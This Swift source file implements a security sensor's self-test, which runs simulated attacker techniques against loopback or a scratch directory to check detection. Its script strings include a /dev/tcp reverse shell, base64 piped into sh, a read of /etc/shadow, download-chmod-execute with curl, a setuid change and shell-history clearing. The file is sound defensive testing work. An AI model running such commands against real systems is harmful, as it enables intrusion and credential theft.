import Synchronization
import Foundation
import Glibc
import MamoriSystem
import MamoriTriage

/// `mamori selftest`: harmless simulations of attacker techniques, run against the live sensor
/// and rule pack, each reported as detected or not.
///
/// Exists as an operator's proof that the sensor works on this kernel. Every simulation stays
/// in a scratch directory (removed afterwards), talks only to loopback, and kills nothing.
/// Runs on the calling thread; the agent's worker runs on its own thread meanwhile.
public final class Selftest {
    /// One simulated technique and what it is expected to trigger.
    public struct Simulation: Sendable {
        public var technique: String
        public var name: String
        /// Shell script run with `/bin/sh -c`, with `$S` = scratch dir and `$P` = loopback port.
        public var script: String
        /// Tools the script needs; missing ones skip the simulation.
        public var requires: [String] = []
    }

    /// The outcome per simulation.
    public struct Result: Sendable {
        public var simulation: Simulation
        public var detected: Bool
        public var rules: [String]
        public var skipped: String?
    }

    public static let simulations: [Simulation] = [
        Simulation(technique: "T1059.004", name: "reverse shell: sh with stdin/stdout on a loopback TCP socket",
                   script: "exec 0<>/dev/tcp/127.0.0.1/$P 1>&0; sh -c :", requires: ["bash"]),
        Simulation(technique: "T1027", name: "base64-decoded script piped into a shell",
                   script: "echo ZWNobyBtYW1vcmktc2VsZnRlc3QK | base64 -d | sh >/dev/null", requires: ["base64"]),
        Simulation(technique: "T1003.008", name: "read of /etc/shadow by a non-authentication program",
                   script: "cat /etc/shadow >/dev/null", requires: ["cat"]),
        Simulation(technique: "T1105", name: "download into a temp path, chmod +x, execute",
                   script: "curl -s -o $S/payload http://127.0.0.1:$P/payload && chmod +x $S/payload && $S/payload",
                   requires: ["curl"]),
        Simulation(technique: "T1036.005", name: "execute a binary from a hidden directory",
                   script: "mkdir -p $S/.cache && cp /bin/true $S/.cache/kworker && $S/.cache/kworker", requires: ["cp"]),
        Simulation(technique: "T1548.001", name: "set the setuid bit on a file",
                   script: "cp /bin/true $S/suid && chmod u+s $S/suid", requires: ["cp", "chmod"]),
        Simulation(technique: "T1070.003", name: "shell history cleared",
                   script: "HOME=$S; : > $S/.bash_history; rm -f $S/.bash_history", requires: []),
        // Directory fan-out needs non-loopback destinations (the rule ignores loopback), so it
        // runs inside a network namespace created for it, against TEST-NET-1 addresses that
        // exist only on that namespace's own loopback device: nothing leaves the host.
        Simulation(technique: "T1087", name: "LDAP fan-out to 5 directory servers (own network namespace)",
                   script: "N=mamori-selftest-$$; ip netns add $N && ip netns exec $N bash -c 'ip link set lo up; for i in 2 3 4 5 6; do ip addr add 192.0.2.$i/32 dev lo; done; for i in 2 3 4 5 6; do : 3<>/dev/tcp/192.0.2.$i/389; done 2>/dev/null'; ip netns del $N",
                   requires: ["bash", "ip"]),
    ]

    private let agent: Agent
    /// Alerts seen so far, appended by the worker thread's `onAlert`, read by `run`.
    private let hits = Mutex<[(technique: [String], rule: String, timeNs: Int64)]>([])

    /// How long to wait for each simulation's alert.
    public let waitSeconds: Double

    public init(agent: Agent, waitSeconds: Double = 4) {
        self.agent = agent
        self.waitSeconds = waitSeconds
        agent.pipeline?.onAlert = { [weak self] alert, _ in
            guard let self else { return }
            let hit = (alert.fields.techniques, alert.fields.ruleName, Int64(Self.nowNs()))
            self.hits.withLock { $0.append(hit) }
        }
    }

    /// Runs every simulation; `report` is called after each one.
    public func run(report: (Result) -> Void) -> [Result] {
        let scratch = Self.makeScratch()
        defer { _ = Self.sh("rm -rf '\(scratch)'") }
        let server = LoopbackServer()
        defer { server.stop() }
        var results: [Result] = []
        for sim in Self.simulations {
            if let missing = sim.requires.first(where: { !Self.haveTool($0) }) {
                let r = Result(simulation: sim, detected: false, rules: [], skipped: "\(missing) not installed")
                results.append(r); report(r); continue
            }
            let start = Int64(Self.nowNs())
            let env = "S='\(scratch)'; P=\(server.port); "
            let shell = sim.technique == "T1087" || sim.technique == "T1059.004" ? "/bin/bash" : "/bin/sh"
            _ = Self.sh(env + sim.script, shell: shell)
            var rules: [String] = []
            let deadline = Self.nowNs() + UInt64(waitSeconds * 1e9)
            while Self.nowNs() < deadline {
                rules = hits.withLock { hits in
                    hits.filter { $0.timeNs >= start && $0.technique.contains { $0 == sim.technique || $0.hasPrefix(sim.technique + ".") || sim.technique.hasPrefix($0 + ".") } }
                        .map(\.rule)
                }
                if !rules.isEmpty { break }
                usleep(50_000)
            }
            let r = Result(simulation: sim, detected: !rules.isEmpty, rules: Array(Set(rules)).sorted(), skipped: nil)
            results.append(r); report(r)
        }
        return results
    }

    static func nowNs() -> UInt64 {
        var ts = timespec()
        clock_gettime(CLOCK_REALTIME, &ts)
        return UInt64(ts.tv_sec) * 1_000_000_000 + UInt64(ts.tv_nsec)
    }

    static func haveTool(_ name: String) -> Bool {
        for dir in ["/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/local/bin"] where access(dir + "/" + name, X_OK) == 0 {
            return true
        }
        return false
    }

    static func makeScratch() -> String {
        (try? TemporaryDirectory.create(prefix: "mamori-selftest-")) ?? "/tmp/mamori-selftest-\(getpid())"
    }

    /// Runs a script through posix_spawn and waits; returns the exit status.
    @discardableResult
    static func sh(_ script: String, shell: String = "/bin/sh") -> Int32 {
        var pid: pid_t = 0
        let args = [shell, "-c", script]
        var cargs = args.map { strdup($0) } + [nil]
        defer { cargs.forEach { free($0) } }
        var actions = posix_spawn_file_actions_t()
        posix_spawn_file_actions_init(&actions)
        defer { posix_spawn_file_actions_destroy(&actions) }
        posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0)
        posix_spawn_file_actions_addopen(&actions, 2, "/dev/null", O_WRONLY, 0)
        guard posix_spawn(&pid, shell, &actions, nil, &cargs, environ) == 0 else { return -1 }
        var status: Int32 = 0
        while waitpid(pid, &status, 0) < 0 && errno == EINTR {}
        return status
    }
}

/// A tiny HTTP server on 127.0.0.1 that answers every request with a harmless shell script.
/// Sendable: immutable after init; the accept thread owns the listener until `stop()`.
final class LoopbackServer: Sendable {
    let listener: Socket
    let port: UInt16
    private let done = DispatchSemaphore(value: 0)

    init() {
        let address = try! SocketAddress.resolve(host: "127.0.0.1", port: 0, datagram: false, numericOnly: true)[0]
        let listener = try! Socket.open(family: AF_INET, .stream)
        try? listener.bind(to: address)
        try? listener.listen(backlog: 8)
        self.listener = listener
        self.port = (try? listener.localAddress().port) ?? 0
        let done = self.done
        let thread = Thread {
            Self.serve(listener)
            done.signal()
        }
        thread.name = "mamori-selftest-http"
        thread.start()
    }

    private static func serve(_ listener: Socket) {
        let body = "#!/bin/sh\nexit 0\n"
        let response = Array("HTTP/1.0 200 OK\r\nContent-Length: \(body.utf8.count)\r\nContent-Type: text/plain\r\n\r\n\(body)".utf8)
        var buf = [UInt8](repeating: 0, count: 2048)
        while true {
            guard let ready = try? Poll.wait([listener.descriptor], for: .readable, until: .never),
                  ready.events.contains(.readable) else { return }
            let accepted: Socket?
            do { accepted = try listener.accept() } catch { return }  // shut down by stop()
            guard let c = accepted else { continue }
            _ = try? c.receive(into: &buf, deadline: .after(2))
            try? c.sendAll(response, deadline: .after(2))
            c.close()
        }
    }

    func stop() {
        listener.shutdown()
        done.wait()
        listener.close()
    }
}
